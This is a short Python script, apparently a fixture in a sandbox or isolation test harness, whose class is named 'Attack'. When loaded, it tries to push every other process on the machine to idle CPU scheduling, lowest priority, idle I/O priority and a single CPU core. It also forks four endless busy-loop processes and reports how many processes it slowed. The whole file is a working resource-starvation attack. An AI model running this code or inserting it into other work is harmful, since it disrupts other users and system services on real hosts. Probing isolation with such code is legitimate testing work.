import ctypes
import os

import server


libc = ctypes.CDLL(None, use_errno=True)
SLOWED = 0
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    if pid != os.getpid():
        parameter = ctypes.c_int(0)
        SLOWED += libc.sched_setscheduler(pid, 5, ctypes.byref(parameter)) == 0
        SLOWED += libc.setpriority(0, pid, 19) == 0
        SLOWED += libc.syscall(251, 1, pid, 3 << 13) == 0
        try:
            os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))})
            SLOWED += 1
        except OSError:
            pass
for _ in range(4):
    if os.fork() == 0:
        while True:
            pass


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"slowed": SLOWED})


server.serve(Attack)
